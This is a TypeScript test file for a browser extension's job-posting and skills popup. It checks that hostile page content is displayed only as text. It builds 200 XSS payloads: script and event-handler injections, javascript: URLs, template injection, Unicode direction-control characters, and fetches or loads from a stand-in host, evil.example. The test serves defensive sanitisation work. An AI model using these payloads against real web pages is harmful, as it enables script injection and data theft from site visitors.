import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { KINDS, loadExtension, waitForMarks, type LoadedExtension } from '../support/extension.ts';
import { makePosting, POSTING_ADDRESS } from '../support/make-posting.ts';

const SCRIPT = 'top.ran=1;alert(1);fetch(`https://evil.example/`)';
/** Ways into markup, each closed over by ways out of whatever it may stand in. */
const VECTORS = [
  `<script>${SCRIPT}</script>`,
  '<script src=https://evil.example/x.js></script>',
  `<img src=https://evil.example/x.png onerror="${SCRIPT}">`,
  `<svg onload="${SCRIPT}"></svg>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  '<iframe src=https://evil.example/></iframe>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/y.css"; * { background: url(https://evil.example/z) }</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  `<a href="javascript:${SCRIPT}" autofocus onfocus="${SCRIPT}">here</a>`,
  `<input autofocus onfocus="${SCRIPT}">`,
  `<details open ontoggle="${SCRIPT}">`,
  `<video><source onerror="${SCRIPT}"></video>`,
  '<object data=https://evil.example/o></object>',
  '<form action=https://evil.example/><button>Send</button></form>',
  `<math><mi xlink:href="javascript:${SCRIPT}">m</mi></math>`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `\${${SCRIPT}}`,
  `javascript:${SCRIPT}`,
  '&lt;img src=https://evil.example/e.png&gt;',
  `<template><script>${SCRIPT}</script></template>`,
  '<audio src=https://evil.example/a autoplay></audio>',
  `<body onload="${SCRIPT}">`,
];
const OUT = ['', '">', "'>", '-->', '</title>', '</textarea>', '</strong></blockquote>', ']]>'];
/** 200, none like another. */
const PAYLOADS = OUT.flatMap((out) => VECTORS.map((vector) => `${out}${vector}`));
const TURNS = '\u202e\u2066\u200f\u061c\u2069\u200b\ufeff\u0000';

/** Skills that carry five hostile sentences each. */
const SKILLS = (
  'Python Django Flask PostgreSQL MySQL Redis Kubernetes Docker Terraform Kafka Java Kotlin Scala TypeScript JavaScript PHP ' +
  'Laravel Symfony MongoDB Elasticsearch RabbitMQ GraphQL Jenkins Ansible Nginx Linux Git HTML CSS React Angular Grafana ' +
  'Prometheus Snowflake Airflow Hadoop OpenAPI Selenium Cypress Jest'
).split(' ');
const LINES = PAYLOADS.map((payload, at) => `${SKILLS[at % SKILLS.length]} ${payload}`);

/** What may stand in one of our pages; everything else came in as markup. */
const OWN_ELEMENTS =
  'html head meta title script link body div main header section span button svg path circle h1 h2 p ul li bdi strong blockquote ' +
  'details summary dl dt dd table tbody tfoot tr th td input label img';

describe.each(KINDS)('hostile words in %s', (kind) => {
  let extension: LoadedExtension;
  const asked: string[] = [];
  const dialogs: string[] = [];

  beforeAll(async () => {
    extension = await loadExtension(kind);
    await extension.store({
      profile: {
        version: 1,
        content: { skills: PAYLOADS.slice(0, 60).map((skill) => ({ skill: skill.slice(0, 190) })) },
      },
    });
  });
  afterAll(() => extension.close());

  const watch = (page: Page) => {
    page.on('request', (request) => {
      if (!request.url().startsWith(extension.urlOf('')) && !request.url().startsWith('data:'))
        asked.push(request.url());
    });
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
  };
  /** What came in as more than text. */
  const findBreaks = (page: Page): Promise<readonly string[]> =>
    page.evaluate((own) => {
      const known = new Set(own.split(' '));
      const all = [...document.querySelectorAll('*')];
      return [
        ...all.filter(({ localName }) => !known.has(localName)).map(({ outerHTML }) => outerHTML),
        ...all
          .flatMap((element) => element.getAttributeNames().map((name) => `${name}=${element.getAttribute(name)!}`))
          .filter((attribute) => /^on|^(?:href|src|action)=(?!\/)/u.test(attribute)),
        ...[...document.scripts].slice(1).map(({ outerHTML }) => outerHTML),
        ...('ran' in window ? ['a script ran'] : []),
      ];
    }, OWN_ELEMENTS);

  it('are shown as text in 200 pieces of evidence, in title and company', async () => {
    const made = makePosting({ title: `${TURNS}${PAYLOADS[0]!}`, company: PAYLOADS[2]!, must: LINES });
    const page = await extension.openPage(new Map([[POSTING_ADDRESS, made]]), POSTING_ADDRESS);
    await waitForMarks(page);
    const popup = await extension.openOwnPage('popup.html', 'body');
    watch(popup);
    await page.bringToFront();
    await popup.evaluate(() => location.reload());
    await popup.waitForSelector('li[data-standing]');
    await popup.evaluate(() => {
      for (const details of document.querySelectorAll('details')) details.open = true;
      for (const name of document.querySelectorAll<HTMLElement>('.ask-name[aria-expanded="false"]')) name.click();
    });
    await popup.waitForFunction(() => document.querySelectorAll('.ask-name[aria-expanded="false"]').length === 0, {
      polling: 'mutation',
    });
    const quotes = await popup.$$eval('blockquote', (all) => all.map(({ textContent }) => textContent));
    expect(quotes.length).toBeGreaterThanOrEqual(150);
    // Each vector stands there letter by letter; a sentence may be cut, so its beginning is looked for.
    const shown = quotes.join('\n');
    const lost = VECTORS.filter((vector) => !shown.includes(vector.slice(0, 12)));
    expect(lost).toEqual([]);
    expect(await popup.$eval('h1', ({ textContent }) => textContent)).toBe(PAYLOADS[0]);
    expect(
      await popup.evaluate(() => /[\u202a-\u202e\u2066-\u2069\u200b\u200f\ufeff\u0000]/u.test(document.body.innerText)),
    ).toBe(false);
    expect(await findBreaks(popup)).toEqual([]);
    await popup.close();
    await page.close();
  });

  it('are shown as text in 50 titles, and 10,000 letters are cut', async () => {
    const page = await extension.openPage(
      new Map([[POSTING_ADDRESS, makePosting({ title: 'First', must: [`Python ${'x'.repeat(10_000)} Django`] })]]),
      POSTING_ADDRESS,
    );
    await waitForMarks(page);
    const popup = await extension.openOwnPage('popup.html', 'body');
    watch(popup);
    await page.bringToFront();
    await popup.evaluate(() => location.reload());
    await popup.waitForSelector('li[data-standing]');
    const titleIs = (wanted: string) =>
      popup.waitForFunction(
        (text) => document.querySelector('h1')?.textContent === text,
        { polling: 'mutation' },
        wanted,
      );
    for (const payload of PAYLOADS.filter((_, at) => at % 4 === 0)) {
      await page.$eval('h1', (title, text) => (title.textContent = text), `${TURNS}${payload}`);
      // White space is one space everywhere, and a title has at most 160 letters.
      await titleIs(payload.length <= 160 ? payload : `${payload.slice(0, 159)}…`);
    }
    await page.$eval('h1', (title) => (title.textContent = 'y'.repeat(10_000)));
    await titleIs(`${'y'.repeat(159)}…`);
    await popup.$eval('li[data-skill="Python"] .ask-name', (name) => (name as HTMLElement).click());
    await popup.waitForSelector('blockquote');
    expect((await popup.$eval('blockquote', ({ textContent }) => textContent)).length).toBeLessThan(1000);
    expect(await findBreaks(popup)).toEqual([]);
    await popup.close();
    await page.close();
  });

  it('are shown as text on the profile page', async () => {
    const profile = await extension.openOwnPage('options.html', 'li[data-skill]');
    watch(profile);
    await profile.evaluate(() => location.reload());
    await profile.waitForSelector('li[data-skill]');
    expect(await profile.$$eval('li[data-skill]', (all) => all.length)).toBeGreaterThanOrEqual(40);
    expect(await profile.evaluate(() => 'ran' in window)).toBe(false);
    expect(await profile.$$eval('iframe, object, video, audio, base, img[src^="http"]', (all) => all.length)).toBe(0);
    await profile.close();
  });

  it('run no script, ask for nothing outside the package, open no dialog', () => {
    expect(asked).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(extension.errors).toEqual([]);
  });
});
